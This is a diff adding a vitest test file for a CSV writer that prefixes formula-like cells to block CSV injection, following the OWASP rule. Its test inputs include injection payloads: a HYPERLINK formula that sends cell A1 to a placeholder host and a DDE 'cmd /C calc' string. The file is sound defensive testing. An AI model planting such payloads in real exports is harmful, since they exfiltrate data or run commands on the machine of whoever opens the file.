@@ -1,0 +1,71 @@
+/**
+ * src/lib/csv.ts, the one CSV writer. Expected texts are written out by hand from the OWASP
+ * CSV-injection rule (a leading "'" on text cells starting with = + - @ TAB CR), not computed.
+ */
+import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { BOM, csvCell, formulaCells, isFormulaCell, readCsv, writeCsv } from '../../src/lib/csv.ts';
+
+const HOSTILE = [
+  '=HYPERLINK("http://x.test/?"&A1,"clic")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1',
+  '＝1+1', 'Ministerio del Interior', 'a, b; "c"', ' espacio ', 'línea\nnueva', '-7.5', '+3', '1e-3', '-', '', 'Año 2023',
+];
+
+describe('writeCsv', () => {
+  it('writes a BOM, the header, neutralized formula cells, and numbers as numbers', () => {
+    const csv = writeCsv(['Nombre', 'Monto', 'Nota'], [
+      ['=HYPERLINK("http://x.test","clic")', -7496825.85, '@SUM(A1)'],
+      ['Quito', 1234.5, null],
+      ['-2+3', -5, '-7.5'],
+      ['＋1', 0, undefined],
+    ]);
+    expect(csv).toBe(
+      '\ufeffNombre,Monto,Nota\n' +
+      '"\'=HYPERLINK(""http://x.test"",""clic"")",-7496825.85,"\'@SUM(A1)"\n' +
+      'Quito,1234.5,\n' +
+      '"\'-2+3",-5,-7.5\n' +
+      '"\'＋1",0,\n',
+    );
+    expect(formulaCells(csv)).toEqual([]);
+    expect(readCsv(csv)[2]).toEqual(['Quito', '1234.5', '']);
+  });
+
+  it('formulaCells finds what a spreadsheet would run', () => {
+    expect(formulaCells('a,b\n=1+1,-5\n"@x",\'=y\n')).toEqual([
+      { row: 2, column: 1, value: '=1+1' },
+      { row: 3, column: 1, value: '@x' },
+    ]);
+    expect(isFormulaCell('-5')).toBe(false);
+    expect(isFormulaCell('-5 USD')).toBe(true);
+  });
+});
+
+describe('client-side downloads share the cell function', () => {
+  const sources = ['src/components/TableTools.astro', 'src/components/ComparisonScript.astro'].map((f) => {
+    const m = /var q = (function \(v\) \{[^\n]*\});\n/.exec(readFileSync(f, 'utf8'));
+    if (!m) throw new Error(`${f}: no CSV cell function "var q = function (v) {…};"`);
+    return m[1]!;
+  });
+
+  it('both inline scripts carry the same function', () => {
+    expect(sources[1]).toBe(sources[0]);
+  });
+
+  it('gives, cell by cell, what csvCell and writeCsv give once parsed back', () => {
+    // eslint-disable-next-line no-new-func
+    const clientCell = new Function(`return ${sources[0]}`)() as (v: unknown) => string;
+    const parse = (line: string) => Papa.parse<string[]>(line, { newline: '\n' }).data[0] ?? [''];
+    for (const v of [...HOSTILE, 42, -1.25, null]) {
+      const server = readCsv(writeCsv(['x'], [[v]]))[1] ?? [''];
+      expect(parse(clientCell(v)), JSON.stringify(v)).toEqual(server);
+      expect(clientCell(v), JSON.stringify(v)).toBe(csvCell(v as string));
+    }
+    const line = HOSTILE.map(clientCell).join(',');
+    expect(formulaCells(`${line}\n`)).toEqual([]);
+  });
+});
+
+it('BOM is the UTF-8 byte-order mark', () => {
+  expect(Buffer.from(BOM, 'utf8')).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+});
